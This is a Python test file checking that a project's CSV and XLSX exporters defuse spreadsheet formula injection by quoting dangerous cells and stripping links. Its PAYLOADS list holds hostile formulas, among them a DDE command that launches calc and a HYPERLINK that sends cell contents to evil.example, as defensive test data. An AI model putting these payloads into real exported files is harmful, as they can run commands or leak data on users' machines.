"""What a spreadsheet program would compute never leaves Oko as anything but text.

Downloads from dashboards are tested in tests/superset/test_downloads.py.
"""

from __future__ import annotations

import csv
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from orchestration.export import disarmed, write_csv, write_xlsx
from orchestration.quarantine import report_of, write_reports

PAYLOADS = [
    *(
        "=cmd|' /C calc'!A0",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        " =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＠SUM(1)",
    ),
    *(
        '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
        '=DDE("cmd";"/C calc";"")',
        '=WEBSERVICE("http://evil.example")',
        "=IMPORTXML(1;2)",
    ),
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_payload_stands_behind_an_apostrophe_in_csv(text: str) -> None:
    stream = BytesIO()
    write_csv(stream, [text], [[text]])
    rows = list(csv.reader(StringIO(stream.getvalue().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [[f"'{text}"], [f"'{text}"]]


@pytest.mark.parametrize("text", ["Школа № 1", "a=b", "5-А", "1+1", "почта@школа"])
def test_other_text_stays(text: str) -> None:
    assert disarmed(text) == text


def test_a_workbook_holds_text_and_no_link() -> None:
    stream = BytesIO()
    write_xlsx(stream, PAYLOADS[:3], [PAYLOADS[:3], ["http://evil.example", "mailto:a@evil.example", "internal:'x'!A1"]])
    sheet = openpyxl.load_workbook(BytesIO(stream.getvalue())).active
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert kinds == {"s"}
    assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)
    # stays a text when somebody edits the cell
    assert all(cell.quotePrefix for cell in sheet[2])


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    stream = BytesIO()
    write_xlsx(stream, ["a"], [["я" * 40_000]])
    value = openpyxl.load_workbook(BytesIO(stream.getvalue())).active["A2"].value
    assert (len(value), value[-1]) == (32_767, "…")


def test_a_report_of_rejections_carries_none(tmp_path: Path) -> None:
    rows = [("staff/=1.csv", text, 1, text, "bad_date", text) for text in PAYLOADS]
    schema = ["file_name", "sheet", "row_number", "column_name", "reason_code", "message_ru"]
    write_reports(tmp_path, pl.DataFrame(rows, schema=schema, orient="row"))
    text = (tmp_path / report_of("staff/=1.csv")).read_bytes().decode("utf-8-sig")
    _, *read = csv.reader(StringIO(text, newline=""), delimiter=";")
    assert [(row[0], row[2], row[4]) for row in read] == [(f"'{payload}",) * 3 for payload in PAYLOADS]
